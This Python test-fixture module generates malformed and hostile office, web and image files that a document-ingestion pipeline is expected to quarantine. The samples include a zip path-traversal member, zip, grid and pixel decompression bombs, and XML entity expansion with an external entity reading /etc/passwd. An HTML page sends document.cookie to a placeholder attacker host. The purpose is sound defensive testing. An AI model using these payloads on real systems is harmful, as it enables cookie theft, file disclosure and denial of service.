"""Hostile and broken office, web and image files among the leaked cost sheets (issue 19): each must be
quarantined with a reason (or, for the one sound memo, loaded), and none may crash the run, inflate
without bound, escape the folder or fetch anything. `add_office_files(put)` writes them through
make_corpus's `put(rel, data, expectation, note)`."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

QUARANTINED, LOADED = "quarantined", "loaded"
_DATE = (2024, 1, 1, 0, 0, 0)


def _zip(members: list[tuple[str, bytes | str]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, date_time=_DATE), data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _memo() -> bytes:
    """A sound Word memo with a small cost table (python-docx), members dated for identical bytes."""
    import datetime as dt

    import docx

    document = docx.Document()
    document.add_paragraph("Company: Amazon Web Services")
    document.add_paragraph("Period: Q3 2023")
    rows = [["Site", "GPU model", "Units", "Power (kW)", "Coin"], ["Dublin", "H100 SXM", "512", "448", "ETC"]]
    table = document.add_table(rows=2, cols=5)
    for r, cells in enumerate(rows):
        for c, value in enumerate(cells):
            table.cell(r, c).text = value
    document.core_properties.created = document.core_properties.modified = dt.datetime(2024, 1, 1)
    raw = io.BytesIO()
    document.save(raw)
    with zipfile.ZipFile(raw) as src:
        return _zip([(i.filename, src.read(i)) for i in src.infolist()])


def _png(width: int, height: int, body: bytes | None = None) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = body if body is not None else zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _bomb_docx(unpacked: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("[Content_Types].xml", date_time=_DATE), "<Types/>")
        info = zipfile.ZipInfo("word/document.xml", date_time=_DATE)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            for _ in range(unpacked >> 20):
                member.write(bytes(1 << 20))
    return buffer.getvalue()


def far_cell_ods() -> bytes:
    """An ODS of a few hundred bytes whose one filled cell lies 150,000 rows x 1,000 columns out: read
    as a dense grid it would be 150 million cells."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="S">'
               '<table:table-row table:number-rows-repeated="150000">'
               '<table:table-cell table:number-columns-repeated="1000"/></table:table-row><table:table-row>'
               '<table:table-cell table:number-columns-repeated="999"/><table:table-cell office:value-type="string">'
               '<text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>'
               '</office:body></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>')
    return _zip([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
                 ("META-INF/manifest.xml", manifest), ("content.xml", content)])


def add_office_files(put) -> None:
    memo = _memo()
    put("cost_sheets/office_sound_memo.docx", memo, LOADED, "a sound Word memo with a cost table")
    put("cost_sheets/office_truncated.docx", memo[: len(memo) // 2], QUARANTINED, "a DOCX cut in half")
    put("cost_sheets/office_bad_xml.docx",
        _zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document><w:body><unclosed")]),
        QUARANTINED, "a DOCX whose document part is not well-formed XML")
    put("cost_sheets/office_traversal.docx",
        _zip([("word/document.xml", "<x/>"), ("../../../tmp/evil.xml", "owned")]), QUARANTINED,
        "a DOCX zip with a ../ member path")
    put("cost_sheets/office_bomb.docx", _bomb_docx(32 * 2**20), QUARANTINED,
        "a DOCX zip bomb: 32 MB of zeros at about 1000:1")
    put("cost_sheets/office_entities.docx",
        _zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml",
              '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
              '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY e SYSTEM "file:///etc/passwd">]><d>&c;&e;</d>')]),
        QUARANTINED, "a DOCX with entity expansion and an external entity in its XML")
    put("cost_sheets/office_bad.ods",
        _zip([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
              ("content.xml", "<office:document-content><table:table")]),
        QUARANTINED, "an ODS whose content is not well-formed XML")
    put("cost_sheets/office_far_cell.ods", far_cell_ods(), QUARANTINED,
        "an ODS whose one cell lies 150,000 rows and 1,000 columns out (a grid bomb)")
    put("cost_sheets/office_garbage.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 16,
        QUARANTINED, "an XLS: an OLE2 signature, then garbage")
    put("cost_sheets/office_text.xls", "Standort;GPU-Typ;Anzahl\nBerlin;H100;8\n", QUARANTINED,
        "a text file named .xls")
    put("cost_sheets/office_script_only.html",
        "<!doctype html><html><head><script src='http://attacker.invalid/x.js'></script></head><body>"
        "<script>fetch('http://attacker.invalid/?'+document.cookie)</script><img src='http://attacker.invalid/p.png'>"
        "<p>No table here.</p></body></html>", QUARANTINED, "an HTML page with scripts and remote images, no table")
    put("cost_sheets/office_truncated.png", _png(400, 300)[:40], QUARANTINED, "a PNG cut after its header")
    put("cost_sheets/office_pixel_bomb.png", _png(200_000, 200_000), QUARANTINED,
        "a PNG whose header claims 200,000 x 200,000 pixels (a decompression bomb)")
    put("cost_sheets/office_jpeg_named.png", b"\xff\xd8\xff\xe0" + bytes(200), QUARANTINED,
        "JPEG bytes named .png")
    put("cost_sheets/office_garbage.tiff", b"II*\x00" + b"\xff" * 300, QUARANTINED, "a TIFF header, then garbage")
